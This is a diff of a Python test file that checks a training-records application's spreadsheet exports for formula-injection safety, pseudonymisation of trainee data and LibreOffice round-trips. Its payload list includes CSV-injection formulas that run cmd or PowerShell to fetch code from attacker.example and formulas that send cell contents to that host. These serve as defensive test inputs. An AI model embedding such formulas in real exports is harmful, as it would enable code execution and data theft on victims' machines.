@@ -1,4 +1,5 @@
 """Exports: formula injection stays inert, real spreadsheets read them back, persons stay pseudonymous."""
+
 from __future__ import annotations
 
 import csv
@@ -12,18 +13,35 @@ import zipfile
 import pytest
 from openpyxl import load_workbook
 
-from trainer import exports, reports
-from trainer.access import SYSTEM, Actor
+from trainer.accounts.access import SYSTEM, Actor
 from trainer.cli import main
 from trainer.errors import PermissionDenied, TrainerError
-from trainer.pseudonyms import ENV_KEY, Pseudonymiser
+from trainer.reporting import catalogue as reports
+from trainer.reporting import exports
+from trainer.reporting.pseudonyms import ENV_KEY, Pseudonymiser
 
 # OWASP "CSV Injection" payloads and variants: each must come back as text, never run.
 PAYLOADS = [
-    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=cmd|' /C calc'!A0", "=cmd|'/C powershell IEX(wget attacker.example/s)'!A0",
-    "@SUM(1+9)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", '=HYPERLINK("http://attacker.example?x="&A1,"Error")',
-    "=IMPORTXML(CONCAT(\"http://attacker.example/?v=\", A2), \"//a\")", '=DDE("cmd";"/C calc";"!A0")A0',
-    "\t=1+1", "\r=1+1", "=1+1\n=2+2", '"=1+1"', "=\"=1+1\"", "+SUM(1;1)", "-SUM(1,1)", "@A1", "=A1&A2",
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "@SUM(1+1)",
+    "=cmd|' /C calc'!A0",
+    "=cmd|'/C powershell IEX(wget attacker.example/s)'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    '=HYPERLINK("http://attacker.example?x="&A1,"Error")',
+    '=IMPORTXML(CONCAT("http://attacker.example/?v=", A2), "//a")',
+    '=DDE("cmd";"/C calc";"!A0")A0',
+    "\t=1+1",
+    "\r=1+1",
+    "=1+1\n=2+2",
+    '"=1+1"',
+    '="=1+1"',
+    "+SUM(1;1)",
+    "-SUM(1,1)",
+    "@A1",
+    "=A1&A2",
 ]
 ARABIC = "محمد حسن علي الجبوري"
 PHONE = "+964 770 123 4567"
@@ -53,9 +71,9 @@ def test_csv_neutralises_every_payload_and_keeps_phones_and_arabic(tmp_path):
     assert back[0] == list(columns)
     for payload, row in zip(PAYLOADS, back[1:]):
         if payload[0] in "=+-@\t\r":
-            assert row[0] == "'" + payload      # inert: a leading apostrophe, the text intact after it
+            assert row[0] == "'" + payload  # inert: a leading apostrophe, the text intact after it
         else:
-            assert row[0] == payload            # quoted by the CSV writer: starts with '"', never a formula
+            assert row[0] == payload  # quoted by the CSV writer: starts with '"', never a formula
         assert row[1:4] == [ARABIC, PHONE, "7"] and row[4] == "2024-05-30"
     assert back[-1] == ["Note: a note"]
     assert exports.neutralise("+9647701234567") == "+9647701234567"
@@ -97,24 +115,36 @@ def test_json_and_hxl(tmp_path):
     columns, rows = sample_rows()
     exports.write_json(tmp_path / "x.json", {"report": "t"}, columns, rows)
     data = json.loads((tmp_path / "x.json").read_text(encoding="utf-8"))
-    assert data["report"] == "t" and data["rows"][0] == {"text": "=1+1", "name": ARABIC, "phone": PHONE, "n": 7,
-                                                        "day": "2024-05-30"}
+    assert data["report"] == "t" and data["rows"][0] == {
+        "text": "=1+1",
+        "name": ARABIC,
+        "phone": PHONE,
+        "n": 7,
+        "day": "2024-05-30",
+    }
     exports.write_hxl(tmp_path / "x.csv", ("province", "n"), ("#adm1+code", "#indicator+num"), [("IQ-NI", 5)])
     assert read_csv(tmp_path / "x.csv")[:3] == [["province", "n"], ["#adm1+code", "#indicator+num"], ["IQ-NI", "5"]]
 
 
 def test_progress_is_reported_in_steps(tmp_path):
     seen = []
-    exports.write_csv(tmp_path / "p.csv", ("n",), [(i,) for i in range(500)], total=500,
-                      progress=lambda done, total: seen.append((done, total)))
+    exports.write_csv(
+        tmp_path / "p.csv",
+        ("n",),
+        [(i,) for i in range(500)],
+        total=500,
+        progress=lambda done, total: seen.append((done, total)),
+    )
     assert len(seen) > 10 and seen[-1] == (500, 500) and seen == sorted(seen)
 
 
 # --- reports as they leave -------------------------------------------------
 
+
 @pytest.fixture
 def small(db_url):
     from tests.unit.test_reports import build_small
+
     return build_small()
 
 
@@ -154,7 +184,7 @@ def test_person_level_reports_never_go_out_as_hxl(small, tmp_path):
 
 
 def test_trainee_export_is_pseudonymised_unless_allowed_and_asked(small, tmp_path):
-    from trainer.report_trainees import export_trainees
+    from trainer.reporting.registry_export import export_trainees
 
     analyst = Actor(user_id=None, username="ana", role="analyst")
     done = export_trainees(analyst, "csv", tmp_path / "t.csv")
@@ -174,6 +204,7 @@ def test_trainee_export_is_pseudonymised_unless_allowed_and_asked(small, tmp_pat
     token = Pseudonymiser().token
     from db import models
     from db.connection import database
+
     with database.connection_context():
         uuids = {str(u) for (u,) in models.Trainee.select(models.Trainee.uuid).tuples()}
     assert {r[0] for r in rows[1:]} == {token(u) for u in uuids}
@@ -184,15 +215,17 @@ def test_trainee_export_is_pseudonymised_unless_allowed_and_asked(small, tmp_pat
 
 # --- the command line ------------------------------------------------------
 
+
 def test_cli_reports_and_exports(sqlite_url, tmp_path, capsys, monkeypatch):
     """SQLite only: the local operator (no --user) exists there alone; the services run on both backends above."""
     from tests.unit.test_reports import build_small
+
     build_small()
     db_url = sqlite_url
     code = main(["--db", db_url, "report", "trained-by-force", "--format", "csv"])
     out = capsys.readouterr().out
     assert code == 0 and out.splitlines()[0] == "force,name_en,name_ar,trained"
-    assert "police,Local Police,الشرطة المحلية,[c]" in out   # 4 is a small count: a CSV suppresses it
+    assert "police,Local Police,الشرطة المحلية,[c]" in out  # 4 is a small count: a CSV suppresses it
     code = main(["--db", db_url, "report", "trained-by-force"])
     assert code == 0 and re.search(r"^police +Local Police +\S.* 4$", capsys.readouterr().out, re.M)  # exact
     xlsx = tmp_path / "r.xlsx"
@@ -207,14 +240,19 @@ def test_cli_reports_and_exports(sqlite_url, tmp_path, capsys, monkeypatch):
     with pytest.raises(SystemExit) as exit_:
         main(["--db", db_url, "report", "cohort-roster"])
     assert exit_.value.code == 2
-    from trainer import users
+    from trainer.accounts import users
+
     users.create_user(SYSTEM, "ana", "analyst", "analyst-password-1")
     monkeypatch.setenv("TRAINER_PASSWORD", "analyst-password-1")
     out_csv = tmp_path / "t.csv"
     assert main(["--db", db_url, "--user", "ana", "export", "trainees", "--output", str(out_csv)]) == 0
     assert "wrote 7 pseudonymised trainee rows" in capsys.readouterr().out
-    assert main(["--db", db_url, "--user", "ana", "export", "trainees", "--identified",
-                 "--output", str(tmp_path / "i.csv")]) == 1
+    assert (
+        main(
+            ["--db", db_url, "--user", "ana", "export", "trainees", "--identified", "--output", str(tmp_path / "i.csv")]
+        )
+        == 1
+    )
     assert "may not export names" in capsys.readouterr().err and not (tmp_path / "i.csv").exists()
 
 
@@ -223,8 +261,10 @@ def test_cli_reports_and_exports(sqlite_url, tmp_path, capsys, monkeypatch):
 SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
 
 
-@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice (soffice) is not installed: "
-                    "apt-get install libreoffice-calc-nogui to run this check")
+@pytest.mark.skipif(
+    SOFFICE is None,
+    reason="LibreOffice (soffice) is not installed: apt-get install libreoffice-calc-nogui to run this check",
+)
 def test_libreoffice_reads_our_xlsx_and_csv_with_arabic_intact_and_formulas_inert(tmp_path):
     columns, rows = sample_rows()
     rows = rows[:5]
@@ -233,9 +273,22 @@ def test_libreoffice_reads_our_xlsx_and_csv_with_arabic_intact_and_formulas_iner
     profile = f"-env:UserInstallation=file://{tmp_path / 'lo-profile'}"
     for name, extra in (("from_xlsx.xlsx", []), ("from_csv.csv", ["--infilter=CSV:44,34,76,1"])):
         outdir = tmp_path / f"out_{name.split('.')[1]}"
-        done = subprocess.run([SOFFICE, profile, "--headless", *extra, "--convert-to",
-                               "csv:Text - txt - csv (StarCalc):44,34,76,1", "--outdir", str(outdir),
-                               str(tmp_path / name)], capture_output=True, text=True, timeout=180)
+        done = subprocess.run(
+            [
+                SOFFICE,
+                profile,
+                "--headless",
+                *extra,
+                "--convert-to",
+                "csv:Text - txt - csv (StarCalc):44,34,76,1",
+                "--outdir",
+                str(outdir),
+                str(tmp_path / name),
+            ],
+            capture_output=True,
+            text=True,
+            timeout=180,
+        )
         assert done.returncode == 0, done.stderr
         back = read_csv(outdir / f"{name.split('.')[0]}.csv")
         assert back[0] == list(columns)
